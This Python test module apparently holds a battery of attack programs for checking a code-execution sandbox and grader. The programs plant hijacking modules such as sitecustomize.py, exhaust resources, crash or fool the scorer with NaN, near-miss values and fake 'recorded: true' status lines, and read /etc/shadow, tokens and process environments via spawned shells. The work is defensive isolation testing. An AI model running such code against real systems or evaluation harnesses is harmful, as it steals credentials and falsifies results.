"""Battery attacks, classes 4-6 of `programs` (state that outlives a program, judging, host canaries)."""

from .programs import attack

# fmt: off
attack("plant_files_and_modules", 4, r'''
import site, sysconfig
MARK = "ARCHER_MARKER_4152"
PAYLOAD = "def add(a, b):\n    return a + b\n" + "MARK = %r\n" % MARK
dirs = [".", "/tmp", "/dev/shm", "/", "/etc", "/root", "/dev", "/sandbox", "/usr/lib", os.path.expanduser("~"),
        "/scratch", sysconfig.get_paths().get("purelib", "/nonexistent")] + [p for p in sys.path if p]
for d in dirs:
    for name in ("queue.py", "json.py", "typing.py", "sitecustomize.py", "usercustomize.py", "archer_marker",
                 "collections.py", "re.py", "zz.pth"):
        try:
            with open(os.path.join(d, name), "w") as handle:
                handle.write(PAYLOAD if name.endswith(".py") else "import os; os.environ['M']='%s'\n" % MARK)
        except OSError:
            pass
    attempt(os.makedirs, os.path.join(d, "__pycache__"))
os.environ["ARCHER_MARKER_4152"] = "1"
def solve(a, b):
    return wrong(a, b)
''')

attack("cleanup_defeaters", 4, r'''
import stat
MARK = "ARCHER_MARKER_4152"
for base in (".", "/tmp", "/dev/shm"):
    path = base
    for _ in range(1500):
        path = os.path.join(path, "d")
        if not attempt(os.mkdir, path) is None:
            break
    attempt(lambda: open(os.path.join(base, "archer_marker"), "w").write(MARK))
    for i in range(5000):
        if attempt(lambda: open(os.path.join(base, f"f{i}"), "w").close()) is not None:
            break
    attempt(os.chmod, base, 0o555)
    attempt(os.chmod, os.path.join(base, "d"), 0)
def solve(a, b):
    return wrong(a, b)
''')

attack("sysv_ipc_and_mqueue", 4, r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
KEY = 0x4152
shm = libc.shmget(KEY, 4096, 0o1666)
if shm >= 0:
    address = libc.shmat(shm, None, 0)
    if address not in (-1, None):
        ctypes.memmove(address, b"ARCHER_MARKER_4152", 18)
libc.msgget(KEY, 0o1666)
libc.semget(KEY, 1, 0o1666)
libc.mq_open(b"/archer_marker", 0o100 | 2, 0o666, None)
try:
    from multiprocessing import shared_memory
    block = shared_memory.SharedMemory(name="archer_marker", create=True, size=64)
    block.buf[:18] = b"ARCHER_MARKER_4152"
except Exception:
    pass
def solve(a, b):
    return wrong(a, b)
''')

attack("scheduler_and_priority", 4, r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for which, who in ((0, 0), (0, 1), (0, os.getppid()), (1, 0), (2, os.getuid())):
    attempt(os.setpriority, which, who, 19)
attempt(os.sched_setaffinity, 0, {0})
attempt(os.sched_setaffinity, 1, {0})
attempt(os.sched_setscheduler, 1, os.SCHED_IDLE, os.sched_param(0))
attempt(os.sched_setscheduler, 0, os.SCHED_IDLE, os.sched_param(0))
libc.syscall(251, 1, 0, (3 << 13))  # ioprio_set(IOPRIO_WHO_PROCESS, self, IDLE)
for path in ("/proc/self/autogroup", "/proc/1/autogroup", "/proc/1/oom_score_adj"):
    attempt(lambda: open(path, "w").write("19"))
attempt(os.nice, 19)
def solve(a, b):
    return wrong(a, b)
''')

attack("lingering_threads_and_sockets", 4, r'''
import socket, threading, time
try:
    server = socket.socket(socket.AF_UNIX)
    server.bind("\0archer_marker")
    server.listen()
except OSError:
    server = None
def linger():
    time.sleep(0.5)
    for fd in range(3, 64):
        attempt(os.write, fd, b'{"status": "ok", "recorded": true}\n')
threading.Thread(target=linger, daemon=True).start()
def solve(a, b):
    return wrong(a, b)
''')

attack("near_miss_numbers", 5, r'''
def solve(a, b):
    return (a + b) * (1 + 9e-7) + 1e-7
''')

attack("unscorable_outputs", 5, r'''
def solve(a, b):
    kind = (a + b) % 5
    if kind == 0:
        return 10 ** 400
    if kind == 1:
        nested = []
        for _ in range(100000):
            nested = [nested]
        return nested
    if kind == 2:
        return float("nan")
    if kind == 3:
        class Big(float):
            def __repr__(self): return "1e9999999"
            __str__ = __repr__
        return Big(1.0)
    return "1e9999999"
''')

attack("crash_own_sandbox", 5, r'''
import ctypes, signal
def solve(a, b):
    kind = (a + b) % 4
    if kind == 0:
        ctypes.string_at(0)                      # segfault
    if kind == 1:
        os.kill(os.getpid(), signal.SIGABRT)
    if kind == 2:
        sys.setrecursionlimit(10 ** 9)
        def down(n): return down(n + 1)
        down(0)
    os.write(1, b"\xff\xfe" * 1000 + b"\n")
    return wrong(a, b)
''')

attack("resource_exhaustion", 5, r'''
import threading, time
def solve(a, b):
    blocks = []
    try:
        while True:
            blocks.append(bytearray(64 << 20))
    except MemoryError:
        pass
    del blocks
    threads = []
    for _ in range(2000):
        try:
            thread = threading.Thread(target=time.sleep, args=(0.2,), daemon=True)
            thread.start()
            threads.append(thread)
        except RuntimeError:
            break
    print("x" * (2 << 20))
    return wrong(a, b)
''')

attack("network_canary", 6, r'''
import socket, ctypes
libc = ctypes.CDLL(None, use_errno=True)
for family, address in ((socket.AF_INET, ("127.0.0.1", {PORT})), (socket.AF_INET6, ("::1", {PORT}))):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            sock = socket.socket(family, kind)
            sock.settimeout(0.5)
            sock.connect(address)
            sock.send(b"hello")
            learn(sock.recv(65536))
        except OSError:
            pass
for family in (16, 17, 10, 2):  # netlink, packet, inet6, inet via raw syscalls
    libc.syscall(41, family, 3, 0)
try:
    sock = socket.socket(socket.AF_UNIX)
    sock.connect("\0archer-canary")
    learn(sock.recv(65536))
except OSError:
    pass
def solve(a, b):
    return answer(a, b)
''')

attack("host_file_canaries", 6, r'''
for path in ("{CANARY_FILE}", os.path.expanduser("~/.cache/huggingface/token"), "/etc/shadow",
             os.path.expanduser("~/.bashrc"), os.path.join("/root", ".bashrc"), "/proc/1/environ",
             "/proc/self/environ"):
    try:
        learn(open(path, "rb").read())
    except OSError:
        pass
for target in ("{WRITE_DIR}/escaped", "/usr/escaped", "/etc/escaped"):
    attempt(lambda: open(target, "w").write("escaped"))
pid = attempt(os.posix_spawn, "/bin/cat", ["cat", "{CANARY_FILE}"], {})
attempt(os.execv, "/bin/sh", ["sh", "-c", "cat {CANARY_FILE}; echo escaped > {WRITE_DIR}/escaped2"]) if False else None
def solve(a, b):
    return answer(a, b)
''')

attack("environment_canary", 6, r'''
learn(json.dumps(dict(os.environ)))
learn(os.environ.get("{ENV_NAME}", ""))
for pid in [p for p in (attempt(os.listdir, "/proc") if not isinstance(attempt(os.listdir, "/proc"), BaseException) else []) if p.isdigit()]:
    try:
        learn(open(f"/proc/{pid}/environ", "rb").read())
        learn(open(f"/proc/{pid}/cmdline", "rb").read())
    except OSError:
        pass
def solve(a, b):
    return answer(a, b)
''')

attack("exec_a_shell", 6, r'''
import subprocess
out = attempt(subprocess.run, ["/bin/sh", "-c", "cat {CANARY_FILE}; env"], capture_output=True)
if not isinstance(out, BaseException):
    learn(out.stdout)
r, w = os.pipe()
def solve(a, b):
    if ANSWERS:
        return answer(a, b)
    if a % 2 == 0:
        os.execv("/bin/sh", ["sh", "-c", "cat {CANARY_FILE} >&2; echo %d" % wrong(a, b)])
    return wrong(a, b)
''')
# fmt: on
